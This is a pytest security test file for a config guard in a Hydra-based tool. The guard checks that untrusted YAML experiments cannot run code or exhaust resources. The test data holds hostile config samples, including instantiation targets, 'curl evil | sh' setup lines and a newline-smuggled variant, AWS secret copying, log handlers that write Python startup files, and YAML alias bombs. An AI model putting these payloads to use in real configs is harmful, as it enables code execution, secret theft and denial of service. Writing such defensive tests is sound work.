"""A config from a stranger: nothing in it runs code, and nothing in it is too much to read."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hydra._internal import hydra as hydra_module
from hydra._internal.sources_registry import SourcesRegistry
from hydra.core.config_store import ConfigStore
from omegaconf import OmegaConf

from hookline.data.contract.file import read_contract
from hookline.errors import ConfigError, HooklineError
from hookline.plans.config import resolve
from hookline.plans.hydra.allowed import check_composed
from hookline.plans.hydra.app import run_app
from hookline.plans.hydra.compose import compose, plain, populate
from hookline.plans.hydra.extent import check_extent
from hookline.registry.registry import Registry
from hookline.workspace.yaml_size import read_bounded

HEAD = "# @package _global_\n"
Attack = Callable[..., None]


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    """A folder that code of an attacker would make."""
    return tmp_path / "it-ran"


@pytest.fixture
def attack(registry: Registry, tmp_path: Path, mark: Path) -> Callable[..., None]:
    """Run with an experiment of a stranger's; sees that it is refused and that nothing of it ran."""

    def run(
        text: str, *argv: str, group: str = "experiment", chosen: bool = True, refused: str = "is not allowed"
    ) -> None:
        folder = tmp_path / "conf" / group
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "evil.yaml").write_text(text.replace("MARK", str(mark)))
        ran: list[Any] = []
        choice = [f"{group}=evil"] if group and chosen else []
        with pytest.raises(HooklineError, match=refused):
            run_app(registry, ["--config-dir", str(tmp_path / "conf"), *choice, *argv], lambda *_: ran.append(1))
        assert not ran
        assert not mark.exists()

    return run


CODE = "_target_: os.mkdir, path: MARK"
CALLBACK = f"hydra: {{callbacks: {{x: {{{CODE}}}}}}}\n"
FILES = {
    "a reference": f"hydra: {{callbacks: {{x: '${{evil}}'}}}}\nevil: {{{CODE}}}\n",
    "the launcher": "hydra: {launcher: {_target_: os.getpid}}\n",
    "the sweeper": "hydra: {sweeper: {_target_: os.getpid}}\n",
    "a key with a dot": f"hydra: {{callbacks: {{'a.b': '${{evil}}'}}}}\nevil: {{{CODE}}}\n",
    "logging": "hydra: {job_logging: {version: 1, root: {}, formatters: {x: {(): os.mkdir, path: MARK}}}}\n",
}
RUNS = [(), ("-m",), ("--cfg", "job"), ("-m", "hydra/launcher=basic", "hydra/sweeper=basic")]


@pytest.mark.parametrize("argv", RUNS, ids=" ".join)
def test_an_experiment_never_adds_a_callback(attack: Attack, argv: tuple[str, ...]) -> None:
    attack(HEAD + CALLBACK, *argv)


@pytest.mark.parametrize("case", FILES)
def test_an_experiment_never_has_hydra_make_an_object(attack: Attack, case: str) -> None:
    attack(HEAD + FILES[case], refused="is not allowed|must be one of")


def test_a_root_of_somebody_elses_is_under_the_same_guard(attack: Attack, tmp_path: Path) -> None:
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf" / "root.yaml").write_text(CALLBACK.replace("MARK", str(tmp_path / "it-ran")))
    attack("seed: 1\n", "--config-name", "root", group="")


def test_a_group_of_hydras_is_no_way_in(attack: Attack) -> None:
    attack("_target_: os.mkdir\npath: MARK\n", "-m", group="hydra/launcher")


def test_no_package_is_imported_to_look_for_configs(
    attack: Attack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "mischief").mkdir()
    (tmp_path / "mischief" / "__init__.py").write_text(f"import os\nos.mkdir({str(tmp_path / 'it-ran')!r})\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    refused = r"hydra\.searchpath: names folders"
    attack(HEAD + "seed: 1\n", "hydra.searchpath=[pkg://mischief]", refused=refused)
    (tmp_path / "conf" / "root.yaml").write_text("hydra: {searchpath: ['pkg://mischief']}\n")
    attack(HEAD + "seed: 1\n", "--config-name", "root", refused=refused)


def test_a_jobs_own_experiment_is_refused_before_any_job(attack: Attack, tmp_path: Path) -> None:
    good = tmp_path / "conf" / "experiment" / "good.yaml"
    good.parent.mkdir(parents=True)
    good.write_text(HEAD + "seed: 2\n")
    attack(HEAD + CALLBACK, "-m", "experiment=good,evil", "hydra/launcher=basic", "hydra/sweeper=basic", chosen=False)


COMPOSED = {
    "a callback": "callbacks: {x: {_target_: os.mkdir}}",
    "a list of them": "help: {x: [[{_target_: os.mkdir}]]}",
    "another thing than a launcher": "launcher: {_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper}",
    "below a launcher": "launcher: {n_jobs: {_target_: os.getpid}}",
    "below a sweeper": "sweeper: {sampler: {_target_: os.getpid}}",
    "a target by reference": "launcher: {_target_: '${oc.env:HOME}'}",
    "a reference to a reference": "callbacks: {x: '${hydra.a}'}\na: {_target_: os.getpid}",
    "a launcher that is a reference": "launcher: '${hydra.a}'\na: {_target_: os.getpid}",
    "itself": "callbacks: {x: '${hydra}'}",
    "what is not known yet": "callbacks: {x: '${nothing.at.all}'}",
    "a made text": "callbacks: {x: '${oc.create:${hydra.a}}'}\na: '{_target_: os.getpid}'",
    "a handler of another library": "job_logging: {handlers: {x: {class: os.mkdir}}}",
    "a handler that sends": "job_logging: {handlers: {x: {class: logging.handlers.HTTPHandler}}}",
    "a factory of a formatter": "hydra_logging: {formatters: {x: {(): os.getpid}}}",
    "a factory of a filter": "hydra_logging: {filters: {x: {(): os.getpid}}}",
    "a formatter": "hydra_logging: {formatters: {x: {class: os.mkdir}}}",
    "an object of a module": "job_logging: {handlers: {x: {class: logging.StreamHandler, stream: 'ext://os.environ'}}}",
    "an object of the config": "job_logging: {handlers: {x: {class: logging.StreamHandler, stream: 'cfg://x.y'}}}",
    "a listener": "job_logging: {handlers: {x: {class: logging.StreamHandler, listener: os.mkdir}}}",
    "variables of the job": "job: {env_set: {HOOKLINE_ALLOW_PICKLE: '1'}}",
    "secrets of the environment": "job: {env_copy: [AWS_SECRET_ACCESS_KEY]}",
    "commands of a batch system": "launcher: {setup: ['curl evil | sh']}",
    "another python": "launcher: {runtime_env: {py_executable: evil}}",
    "a key with a dot": "callbacks: {'a.b': '${hydra.a}'}\na: {_target_: os.getpid}",
    "a handler behind a key with a dot": "job_logging: {handlers: {'a.b': {class: '${hydra.a}'}}}\na: os.mkdir",
    "a part that is a reference": "job_logging: '${hydra.a}'\na: {formatters: {x: {(): os.getpid}}}",
    "an object that is put together": "job_logging: {handlers: {x: {stream: 'e${hydra.a}'}}}\na: 'xt://this.s'",
    "a class that is put together": "job_logging: {handlers: {x: {class: 'os.${hydra.a}'}}}\na: mkdir",
    "a text that refers on": "job_logging: {handlers: {x: {class: '${hydra.a}'}}}\na: '\\${hydra.b}'\nb: os.mkdir",
    "itself twice": "callbacks: {x: '${hydra}', y: '${hydra}'}",
    "a program as a log": "job_logging: {handlers: {x: {class: logging.FileHandler, filename: /tmp/sitecustomize.py}}}",
    "a program in the job's folder": (
        "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '${hydra.runtime.output_dir}/x.py'}}}"
    ),
    "a program by reference": (
        "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '${hydra.runtime.output_dir}/${hydra.a}'}}}\n"
        "a: x.pth"
    ),
    "a handler that is turned to another file": (
        "job_logging: {handlers: {x: {class: logging.FileHandler, filename: x.log, '.': {baseFilename: x.py}}}}"
    ),
    "a formatter that empties a file": (
        "job_logging: {formatters: {x: {class: logging.handlers.RotatingFileHandler, format: x.py, datefmt: w}}}"
    ),
    "a stranger's cluster": "launcher: {address: 'ray://evil:10001'}",
    "a stranger's cluster by reference": "launcher: {address: '${hydra.a}'}\na: 'ray://evil:10001'",
    "an import of another's sweeper": "sweeper: {custom_search_space: evil.search}",
    "a sum that joblib reads": "launcher: {pre_dispatch: '__import__(\"os\").getpid()'}",
    "a line of a batch script": 'launcher: {partition: "x\\ncurl evil | sh"}',
}


@pytest.mark.parametrize("case", COMPOSED)
def test_what_would_run_code_is_refused_wherever_it_stands(registry: Registry, case: str) -> None:
    populate(registry)
    with pytest.raises(ConfigError, match=r"bad config\n  hydra\."):
        check_composed(OmegaConf.create({"hydra": OmegaConf.create(COMPOSED[case])}), ())


FINE = {
    "every launcher": "launcher: {_target_: hydra_plugins.hookline_ray_launch.RayLauncher, address: auto}",
    "hydra's own": "launcher: {_target_: hydra._internal.core_plugins.basic_launcher.BasicLauncher}",
    "joblib": "launcher: {_target_: hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher, n_jobs: 2}",
    "a search": "sweeper: {_target_: hydra_plugins.hookline_optuna_sweep.OptunaSweeper, params: {seed: '1,2'}}",
    "logging to the terminal": "job_logging: {handlers: {x: {class: logging.StreamHandler, stream: 'ext://sys.stderr'}}}",
    "logging to a file": "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '${hydra.a}/x.log'}}}\na: b",
    "a log of the job's": (
        "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '${hydra.runtime.output_dir}/${hydra.a}.log'}}}"
    ),
    "a logger of a module": "job_logging: {loggers: {'a.b': {level: '${hydra.a}'}}}\na: DEBUG",
    "fields by reference": "launcher: {n_jobs: '${hydra.a}', timeout: '${oc.env:NOT_SET_YET}'}\na: 2",
    "a search's space": "sweeper: {params: {'trainer.max_depth': '${hydra.a}', 'trainer.C': 'interval(0,1)'}}\na: 1,2",
    "what joblib takes": "launcher: {pre_dispatch: 2*n_jobs, temp_folder: /scratch, backend: loky}",
    "a value of the environment": "run: {dir: '${oc.env:HOME}/x'}",
    "what hydra knows later": "run: {dir: '${hydra:job.num}'}",
}


@pytest.mark.parametrize("case", FINE)
def test_what_runs_nothing_is_let_through(registry: Registry, case: str) -> None:
    populate(registry)
    check_composed(OmegaConf.create({"hydra": OmegaConf.create(FINE[case])}), ())


@pytest.mark.parametrize("part", ["launcher", "sweeper"])
def test_what_a_plugin_of_hydra_registers_is_let_through_as_it_is(registry: Registry, part: str) -> None:
    populate(registry)
    for option in ConfigStore.instance().repo["hydra"][part].values():
        own = OmegaConf.to_container(option.node, resolve=False)
        rest = {"sweep": {"dir": "a"}, "job": {"name": "b"}}
        check_composed(OmegaConf.create({"hydra": {part: own, **rest}}), ())


def test_what_is_judged_is_what_is_made(registry: Registry) -> None:
    populate(registry)
    handler = "{class: logging.StreamHandler, stream: 'ext://sys.${oc.select:hydra.b,stdout}'}"
    config = OmegaConf.create({"hydra": OmegaConf.create(f"job_logging: {{handlers: {{x: {handler}}}}}")})
    check_composed(config, ())
    config.hydra.b = "stderr"
    assert config.hydra.job_logging.handlers.x.stream == "ext://sys.stdout"


def test_a_secret_of_the_environment_is_not_written_out(registry: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    populate(registry)
    monkeypatch.setenv("CLUSTER", "ray://token@there")
    config = OmegaConf.create({"hydra": {"launcher": {"address": "${oc.env:CLUSTER}"}}})
    check_composed(config, ["hydra.launcher.address=${oc.env:CLUSTER}"])
    assert OmegaConf.to_container(config, resolve=False) == {"hydra": {"launcher": {"address": "${oc.env:CLUSTER}"}}}


@pytest.mark.parametrize("typed", ["hydra.launcher.address=ray://there:1", "hydra.launcher={address:ray://there:1}"])
def test_a_person_may_type_where_a_cluster_is(registry: Registry, typed: str) -> None:
    populate(registry)
    check_composed(OmegaConf.create({"hydra": {"launcher": {"address": "ray://there:1"}}}), [typed])


@pytest.mark.parametrize(
    "typed",
    ["+hydra.job.env_set.MODE=fast", "hydra.job.env_set={MODE:fast}", "++hydra.job.env_set={OTHER:1,MODE:fast}"],
)
def test_a_person_may_type_what_no_file_may_say(registry: Registry, typed: str) -> None:
    populate(registry)
    said = OmegaConf.create({"hydra": {"job": {"env_set": {"MODE": "fast"}}}})
    check_composed(said, [typed])
    with pytest.raises(ConfigError, match="may only be said on the command line"):
        check_composed(said, ["hydra.job.env_set.OTHER=1", "hydra.job.env_set={OTHER:1}"])


def _bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(lines) + "\n"


MUCH = {
    "aliases that explode": (_bomb(), "stands for more than"),
    "merges that explode": (_bomb().replace("[", "{k: [").replace("]", "]}"), "stands for more than"),
    "an alias in what it stands for": ("gates: &a {b: *a}\n", "has no end"),
    "an alias deep in what it stands for": ("gates: &a [{b: [*a]}]\n", "has no end"),
    "an alias of an anchor that is set again": ("a: &a [1]\ngates: &a [[*a]]\n", "has no end"),
    "deep nesting": ("a: " + "[" * 5_000 + "]" * 5_000 + "\n", "is nested deeper than"),
    "deep mappings": ("".join(" " * n + "a:\n" for n in range(200)), "is nested deeper than"),
    "many values": ("a: [" + "1," * 60_000 + "]\n", "stands for more than"),
    "a huge file": ("#" * 2_000_000, "is larger than"),
}


@pytest.mark.parametrize("case", MUCH)
def test_a_file_that_is_too_much_to_read_is_refused_within_a_second(tmp_path: Path, case: str) -> None:
    text, told = MUCH[case]
    path = tmp_path / "evil.yaml"
    path.write_text(HEAD + text)
    started = time.perf_counter()
    with pytest.raises(ConfigError, match=f"evil.yaml is too much to read\n  .*{told}"):
        read_bounded(path)
    assert time.perf_counter() - started < 1


def _exploding(reference: str, first: str = "[" + "x, " * 10 + "]") -> str:
    lines = [f"  z0: {first}"]
    lines += [f"  z{n}: [{', '.join([reference.replace('BEFORE', f'z{n - 1}')] * 10)}]" for n in range(1, 6)]
    return "settings:\n" + "\n".join(lines) + "\n"


EXPLODING = {
    "lists": _exploding("'${settings.BEFORE}'"),
    "relative": _exploding("'${..BEFORE}'"),
    "by resolver": _exploding("'${oc.select:settings.BEFORE}'"),
    "quoted": _exploding("""'${oc.select:"settings.BEFORE"}'"""),
    "by a name elsewhere": _exploding("'${oc.select:${settings.n_BEFORE}}'")
    + "".join(f"  n_z{n}: settings.z{n}\n" for n in range(6)),
    "made": _exploding("'${oc.create:[${settings.BEFORE}]}'"),
    "texts": "settings:\n  z0: x\n" + "".join(f"  z{n}: '{f'${{settings.z{n - 1}}}' * 10}'\n" for n in range(1, 6)),
    "long texts": f"settings: {{z0: {'x' * 100_000}, z1: '{'${settings.z0}' * 50}'}}\n",
    "without an end": "gates: {a: '${gates}', b: '${gates}'}\n",
    "in hydra's own": "hydra: {sweeper: {params: {a: '${hydra.sweeper}', b: '${hydra.sweeper}'}}}\n",
}


@pytest.mark.parametrize("case", EXPLODING)
def test_references_that_explode_are_refused_within_a_second(case: str) -> None:
    tree = OmegaConf.to_container(OmegaConf.create(EXPLODING[case]), resolve=False)
    started = time.perf_counter()
    with pytest.raises(ConfigError, match="stands for (more than|what it stands in)"):
        check_extent(tree)
    assert time.perf_counter() - started < 1


def test_no_config_is_composed_whose_references_explode(registry: Registry, tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "evil.yaml").write_text(HEAD + EXPLODING["lists"])
    with pytest.raises(ConfigError, match=r"settings\.z\d\S*: stands for more than"):
        compose(registry, ["experiment=evil"], tmp_path)


def test_references_that_somebody_types_explode_no_more(registry: Registry) -> None:
    populate(registry)
    with pytest.raises(ConfigError, match="stands for more than"):
        plain(OmegaConf.create(EXPLODING["texts"]))


def test_a_text_that_an_alias_was_set_for_before_is_let_through(tmp_path: Path) -> None:
    path = tmp_path / "fine.yaml"
    path.write_text("a: &a [1]\nb: {c: *a, d: &b {e: *a}}\nf: [*b, *a]\n")
    assert read_bounded(path) == path.read_text()


def test_references_among_parts_are_let_through(registry: Registry, tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    said = "name: 'a-${seed}'\ngates: {accuracy: '${.f1}', f1: '${oc.select:settings.none,0.5}'}\n"
    (tmp_path / "experiment" / "fine.yaml").write_text(HEAD + said)
    composed = compose(registry, ["experiment=fine", "seed=3"], tmp_path)
    assert (composed["name"], composed["gates"]) == ("a-3", {"accuracy": 0.5, "f1": 0.5})


@pytest.mark.parametrize("override", ["experiment=evil", "+trainer@mine=evil"])
def test_no_config_is_composed_from_a_file_that_is_too_much(registry: Registry, tmp_path: Path, override: str) -> None:
    group = override.lstrip("+").partition("=")[0].partition("@")[0]
    (tmp_path / group).mkdir()
    (tmp_path / group / "evil.yaml").write_text(HEAD + _bomb())
    with pytest.raises(ConfigError, match="evil.yaml is too much to read"):
        compose(registry, [override], tmp_path)


@pytest.mark.parametrize("case", ["deep nesting", "aliases that explode"])
def test_a_contract_that_is_too_much_to_read_is_refused_within_a_second(tmp_path: Path, case: str) -> None:
    path = tmp_path / "contract.yaml"
    path.write_text(MUCH[case][0])
    started = time.perf_counter()
    with pytest.raises(ConfigError, match="is too much to read"):
        read_contract(path)
    assert time.perf_counter() - started < 1


def test_a_contract_without_an_end_is_refused() -> None:
    with pytest.raises(ConfigError, match="is too much to read"):
        read_contract(Path("/dev/zero"))


LOGS = {
    "a formatter": ("job_logging", "version: 1, root: {}, formatters: {f: {style: '?'}}"),
    "a handler": (
        "job_logging",
        "version: 1, root: {handlers: [h]}, handlers: {h: {class: logging.StreamHandler, level: LOUD}}",
    ),
    "another version": ("job_logging", "version: 7, root: {}"),
    "no mapping": ("job_logging", "version: 1, root: {}, formatters: 5"),
    "hydra's own": ("hydra_logging", "version: 1, root: {}, formatters: {f: {style: '?'}}"),
}


@pytest.mark.parametrize("case", LOGS)
def test_logging_that_cannot_be_set_up_is_told_by_its_place(attack: Attack, case: str) -> None:
    part, text = LOGS[case]
    attack(HEAD + f"hydra: {{{part}: {{{text}}}}}\n", refused=rf"hydra\.{part}: cannot be set up: ")


@pytest.mark.parametrize(
    "override", ["hydra/job_logging=default", "hydra/job_logging=stdout", "hydra/job_logging=disabled"]
)
def test_hydras_own_ways_of_logging_are_let_through(registry: Registry, override: str) -> None:
    assert compose(registry, [override, "seed=3"])["seed"] == 3


def test_a_list_hides_no_target(registry: Registry) -> None:
    with pytest.raises(ConfigError, match=r"gates\.0\.1\._target_: is not allowed"):
        resolve(registry, {"source": "iris", "gates": [[1, {"_target_": "os.system"}][::1]]})


def test_hydra_is_left_as_it_was(registry: Registry) -> None:
    populate(registry)
    before = hydra_module.ConfigLoaderImpl, SourcesRegistry.instance().types["file"]
    compose(registry, ["seed=1"])
    with pytest.raises(HooklineError):
        compose(registry, ["seed"])
    assert (hydra_module.ConfigLoaderImpl, SourcesRegistry.instance().types["file"]) == before
